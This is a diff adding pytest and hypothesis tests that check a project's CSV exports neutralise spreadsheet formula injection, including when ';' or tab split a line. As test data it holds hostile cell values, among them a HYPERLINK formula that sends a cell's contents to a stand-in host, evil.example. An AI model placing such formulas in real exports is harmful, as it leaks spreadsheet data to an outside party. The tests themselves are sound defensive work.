@@ -13,6 +13,8 @@ from typing import Any
 import pytest
 from django.conf import settings
 from django.test import Client
+from hypothesis import given
+from hypothesis import strategies as st
 
 from annotation.curation import exporting
 from annotation.models import Export
@@ -23,6 +25,7 @@ from catalogue.models import Import, Rejection
 from inference.knowledge.files import Rejected, rejected_csv
 from jobs import leasing
 from projects.models import Project
+from relevance.spreadsheets import csv_line, plain_cell, safe_cell
 from tests.conftest import ROOT, Cast
 from tests.hostile.corpus import PASSED_OVER, formulas
 
@@ -109,3 +112,19 @@ def test_every_csv_of_the_product_is_written_in_one_place() -> None:
         if "csv.writer" in path.read_text() or "DictWriter" in path.read_text()
     ]
     assert writers == ["relevance/spreadsheets.py"]
+
+
+@pytest.mark.parametrize("sign", [";", "\t"])
+@pytest.mark.parametrize(
+    "text", ['foo{}=HYPERLINK("http://evil.example/?"&A1){}bar', "foo{} +1{}bar", "{}@x{}", "a{}'=1{}b"]
+)
+def test_no_formula_stands_behind_a_sign_at_which_a_spreadsheet_divides_a_line(sign: str, text: str) -> None:
+    said = text.format(sign, sign)
+    line = csv_line(["L4", said, "end"])
+    assert computed(next(csv.reader([line], delimiter=sign))) == []
+    assert plain_cell(next(csv.reader([line]))[1]) == said
+
+
+@given(st.text(";\t'=+-@ ab\u200b\r\n\"", max_size=12))
+def test_whatever_is_made_safe_comes_back(said: str) -> None:
+    assert plain_cell(safe_cell(said)) == said
